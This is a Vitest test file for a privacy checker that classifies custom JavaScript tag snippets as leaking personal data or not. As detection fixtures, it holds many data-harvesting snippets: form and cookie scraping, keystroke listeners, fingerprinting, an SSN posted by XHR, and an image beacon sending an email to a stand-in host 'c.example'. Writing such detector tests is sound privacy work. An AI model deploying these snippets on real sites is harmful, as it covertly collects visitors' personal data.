import { describe, expect, it } from "vitest";

import { judge } from "../../app/privacy/index.ts";

const script = (code: string) => judge({ kind: "custom_js", input: { code } });

describe("a script that gives personal data away", () => {
  it.each([
    ["a field's value", "function(){return document.querySelector('#email').value}"],
    [
      "values of all fields by their tag",
      "function(){var f=document.getElementsByTagName('input'),s=[];for(var i=0;i<f.length;i++)s.push(f[i].value);return s.join()}",
    ],
    ["this in jQuery's own event", "jQuery('#email').blur(function(){dataLayer.push({event:'left',v:this.value})})"],
    [
      "this in a delegated event",
      "jQuery(document).on('change','input[type=tel]',function(){dataLayer.push({event:'c',v:this.value})})",
    ],
    ["a tag of the head", "function(){return document.querySelector('meta[name=user-email]').content}"],
    [
      "a browser by its clock",
      "function(){return [navigator.userAgent,screen.height,new Date().getTimezoneOffset()].join('/')}",
    ],
    ["who is logged in, whole", "function(){return localStorage.getItem('user')}"],
    ["what an application asks its service for", "function(){return Intercom('getVisitorId')}"],
    [
      "fields by a borrowed method",
      "function(){return [].map.call(document.querySelectorAll('input'),function(i){return i.value}).join()}",
    ],
    ["a browser by how much it has", "function(){return navigator.userAgent+screen.width+navigator.plugins.length}"],
    ["a name put together from parts", "function(){var e=document.getElementById('em'+'ail');return e&&e.value}"],
    ["a name joined from a list", "function(){var k=['e','mail'].join('');return document.getElementById(k).value}"],
    ["a name in base 64", "function(){return document.getElementById(atob('ZW1haWw=')).value}"],
    [
      "a value in lower case",
      "function(){return document.querySelector('input[type=email]').value.toLowerCase().trim()}",
    ],
    ["a hash of a value", "function(){return sha256(document.querySelector('[name=email]').value)}"],
    [
      "a digest of a value",
      "function(){return crypto.subtle.digest('SHA-256', new TextEncoder().encode(document.querySelector('#email').value))}",
    ],
    ["all of a form", "function(){var f=new FormData(document.forms[0]);return Object.fromEntries(f)}"],
    [
      "all of a form as JSON",
      "function(){return JSON.stringify([...new FormData(document.querySelector('form')).entries()])}",
    ],
    [
      "a form through forEach",
      "function(){var o={};new FormData(document.forms[0]).forEach(function(v,k){o[k]=v});return JSON.stringify(o)}",
    ],
    ["a field by its name in a form", "function(){return document.forms.contact.email.value}"],
    ["a named item", "function(){return {{Form Element}}.elements.namedItem('tel').value}"],
    [
      "a field by XPath",
      "function(){return document.evaluate('//input[@id=\"email\"]',document,null,9,null).singleNodeValue.value}",
    ],
    ["a script in a text", "function(){return eval(\"document.querySelector('#email').value\")}"],
    ["a function in a text", "function(){return new Function('return document.querySelector(\"#email\").value')()}"],
    ["a script that nobody can know", "function(){return eval(window.code)}"],
    ["a with statement", "function(){with(document.forms[0]){return email.value}}"],
    [
      "a person that a server answers with",
      "fetch('/api/me').then(r=>r.json()).then(u=>dataLayer.push({event:'login',user:u}))",
    ],
    ["all of a storage", "function(){return JSON.stringify(localStorage)}"],
    ["a cookie from the cookie store", "cookieStore.get('user_email').then(c=>dataLayer.push({c:c.value}))"],
    [
      "a field in a frame",
      "function(){return document.querySelector('iframe').contentDocument.querySelector('#email').value}",
    ],
    [
      "a field in a shadow tree",
      "function(){return document.querySelector('my-form').shadowRoot.querySelector('#email').value}",
    ],
    ["what is typed", "document.addEventListener('input',function(e){dataLayer.push({event:'x',v:e.target.value})})"],
    ["a form through jQuery", "function(){return jQuery('form').serialize()}"],
    ["a field through jQuery", "function(){return $('#phone').val()}"],
    [
      "every field of a page",
      "function(){document.querySelectorAll('input').forEach(function(i){dataLayer.push({event:'f',v:i.value})})}",
    ],
    [
      "every field under its name",
      "function(){var o={};Array.from(document.querySelectorAll('input')).map(i=>o[i.name]=i.value);return o}",
    ],
    [
      "the elements of a form",
      "function(){return Array.prototype.slice.call(document.forms[0].elements).map(function(e){return e.value}).join('|')}",
    ],
    ["all cookies", "function(){return document.cookie}"],
    ["the visitor's cookie", "function(){return document.cookie.match(/_ga=([^;]+)/)[1]}"],
    ["a cookie by splitting", "function(){return ('; '+document.cookie).split('; _ga=').pop().split(';')[0]}"],
    [
      "a cookie through a function",
      "function(){function g(n){var m=document.cookie.match(new RegExp(n+'=([^;]+)'));return m&&m[1]} return g('user_id')}",
    ],
    ["a stored value", "function(){return localStorage.getItem('user_email')}"],
    ["a part of a stored object", "function(){return JSON.parse(localStorage.getItem('user')).email}"],
    ["an id in storage", "function(){return sessionStorage.customerId}"],
    ["the data layer", "function(){return window.dataLayer[0].user.email}"],
    ["the data layer of GTM", "function(){return google_tag_manager['GTM-X'].dataLayer.get('user.email')}"],
    ["an object of the page", "function(){var u=window.user;return u&&u.firstName+' '+u.lastName}"],
    ["a property under a hidden name", "function(){return window['us'+'er']['em'+'ail']}"],
    ["a pattern of names", "function(){const {email}=window.user;return email}"],
    ["a query parameter", "function(){return new URLSearchParams(location.search).get('email')}"],
    ["a query parameter by expression", "function(){var m=location.search.match(/[?&]email=([^&]+)/);return m&&m[1]}"],
    ["a clicked field", "function(){return {{Click Element}}.value}"],
    ["a data attribute", "function(){var el={{Click Element}};return el.getAttribute('data-email')}"],
    ["a link to a mailbox", "function(){return document.querySelector('a[href^=\"mailto:\"]').href}"],
    ["a text that shows a name", "function(){return document.querySelector('.user-name').innerText}"],
    ["a variable of GTM", "function(){return {{DLV - user.email}}.split('@')[0]}"],
    ["a variable inside a string", "<script>ttq.identify({email: '{{DLV - user email}}'})</script>"],
    ["a tag's call", "<script>gtag('set','user_data',{email:document.getElementById('mail').value})</script>"],
    ["a fingerprint library", "function(){return FingerprintJS.load().then(fp=>fp.get()).then(r=>r.visitorId)}"],
    [
      "a fingerprint by hand",
      "function(){return btoa(navigator.userAgent+screen.width+navigator.language+new Date().getTimezoneOffset())}",
    ],
    [
      "a drawn fingerprint",
      "function(){var c=document.createElement('canvas');var x=c.getContext('2d');x.fillText('a',1,1);return c.toDataURL()}",
    ],
    ["a question to the visitor", "function(){return prompt('name?')}"],
    [
      "the visitor's place",
      "navigator.geolocation.getCurrentPosition(function(p){dataLayer.push({x:p.coords.latitude})})",
    ],
    [
      "the visitor's address in the network",
      "fetch('https://api.ipify.org').then(r=>r.text()).then(d=>dataLayer.push({v:d}))",
    ],
    ["what was searched for", "function(){return document.querySelector('#search').value}"],
    ["a text field", "function(){return document.querySelector('textarea').value}"],
    ["a page's text", "function(){return document.body.innerText.match(/[\\w.]+@[\\w.]+/)[0]}"],
    ["keys that are pressed", "document.addEventListener('keydown',e=>{dataLayer.push({event:'key',k:e.key})})"],
    [
      "a request",
      "function(){var x=new XMLHttpRequest();x.open('POST','/c');x.send(document.querySelector('#ssn').value)}",
    ],
    [
      "a picture's address",
      "function(){new Image().src='https://c.example/?e='+encodeURIComponent(document.querySelector('#email').value)}",
    ],
    ["a beacon", "function(){navigator.sendBeacon('/x', new FormData(document.querySelector('form')))}"],
    [
      "only one branch",
      "function(){return document.getElementById('fullname').value.length>3?document.getElementById('fullname').value:''}",
    ],
    ["a list in between", "function(){var a=[];a.push(document.querySelector('#email').value);return a.join()}"],
    [
      "a caught error",
      "function(){try{return document.querySelector('[autocomplete=\"cc-number\"]').value}catch(e){return ''}}",
    ],
    ["a name in brackets", "function(){return document.querySelector('input[name=\"billing[first_name]\"]').value}"],
    ["a field of the event", "function(){return event.target.form.elements['phone'].value}"],
    ["an arrow function", "()=>document.querySelector('#iban')?.value"],
    ["a script that cannot be parsed", "function(){ return document.querySelector('#email').value"],
  ])("%s", (_what, code) => {
    const verdict = script(code);

    expect(verdict.personal).toBe(true);
    expect(verdict.evidence.length).toBeGreaterThan(0);
    expect(verdict.instead).toBeTruthy();
  });
});

describe("a script that gives nothing personal away", () => {
  it.each([
    ["this of a choice", "jQuery('#qty').change(function(){dataLayer.push({event:'qty',v:this.value})})"],
    [
      "this of a link",
      "jQuery(document).on('click','a.more',function(){dataLayer.push({event:'more',v:this.className})})",
    ],
    ["whether somebody is logged in", "function(){return !!localStorage.getItem('user')}"],
    ["what kind of customer is logged in", "function(){return JSON.parse(localStorage.getItem('user')).type}"],
    [
      "goods by a borrowed method",
      "function(){return [].map.call(document.querySelectorAll('.item'),function(i){return i.dataset.sku}).join()}",
    ],
    ["the type of the page", "function(){return document.querySelector('meta[property=\"og:type\"]').content}"],
    ["whether a field is filled", "function(){return !!document.querySelector('#email').value}"],
    ["how long a value is", "function(){return document.querySelector('#email').value.length}"],
    ["whether a field is valid", "function(){return document.querySelector('#email').checkValidity()}"],
    ["a comparison", "function(){return document.querySelector('#email').value !== ''}"],
    ["a test", "function(){return /@/.test(document.querySelector('#email').value)}"],
    ["one word or another", "function(){var e=document.querySelector('#email');return e&&e.value?'filled':'empty'}"],
    [
      "a yes under a personal name",
      "function(){return {event:'x',has_email:!!document.querySelector('#email').value}}",
    ],
    ["a field's type", "function(){return document.querySelector('#email').type}"],
    ["how many fields", "function(){return document.querySelectorAll('input').length}"],
    ["a form's id", "function(){return document.querySelector('form#signup').id}"],
    ["a choice", "function(){return document.querySelector('[name=payment]:checked').value}"],
    ["a chosen size", "function(){return document.querySelector('select[name=size]').options[0].text}"],
    ["a number of pieces", "function(){return document.querySelector('#qty').value}"],
    ["a voucher", "function(){return document.querySelector('#promo-code').value}"],
    ["a model", "function(){return document.querySelector('.phone-card').dataset.model}"],
    ["a heading", "function(){return document.querySelector('h1').innerText}"],
    ["a part of the address", "function(){return location.pathname.split('/')[1]}"],
    ["a campaign", "function(){return new URLSearchParams(location.search).get('utm_source')}"],
    ["a consent", "function(){var m=document.cookie.match(/consent=([^;]+)/);return m?m[1]:''}"],
    ["whether there is a cookie", "function(){return document.cookie.indexOf('consent=')>-1}"],
    ["a theme", "function(){return localStorage.getItem('theme')}"],
    ["items", "function(){return {{DLV - ecommerce.items}}.map(function(i){return i.item_id}).join(',')}"],
    [
      "a sum",
      "function(){var t=0;document.querySelectorAll('.item').forEach(function(e){t+=parseFloat(e.dataset.price)});return t}",
    ],
    ["a click's text", "function(){return {{Click Text}}.toLowerCase()}"],
    ["whether a link is one to a mailbox", "function(){return {{Click URL}}.indexOf('mailto:')===0}"],
    ["whether somebody is signed in", "function(){return typeof window.user !== 'undefined' ? 'logged in' : 'guest'}"],
    ["a kind of user", "function(){return window.user && window.user.type}"],
    ["a size of the screen", "function(){return screen.width+'x'+screen.height}"],
    ["a language", "function(){return navigator.language}"],
    ["a time", "function(){return Math.round(performance.now())}"],
    ["a channel", "dataLayer.push({event:'email_signup', method:'email'})"],
    [
      "gtag's own snippet",
      "window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-X')",
    ],
    ["nothing", ""],
  ])("%s", (_what, code) => {
    expect(script(code)).toMatchObject({ personal: false });
  });
});

describe("a hostile script", () => {
  it("is judged in bounded time however it nests", () => {
    const deep = `function(){return ${"(".repeat(20_000)}1${")".repeat(20_000)}}`;

    expect(script(deep).reason).toBeTruthy();
  });

  it("that calls itself comes to an end", () => {
    expect(script("function f(x){return f(f(x))} f(1)").personal).toBe(false);
  });

  it("that is too long to be judged is not cleared", () => {
    expect(script(`function(){return 1}${"//x\n".repeat(60_000)}`).personal).toBe(true);
  });
});
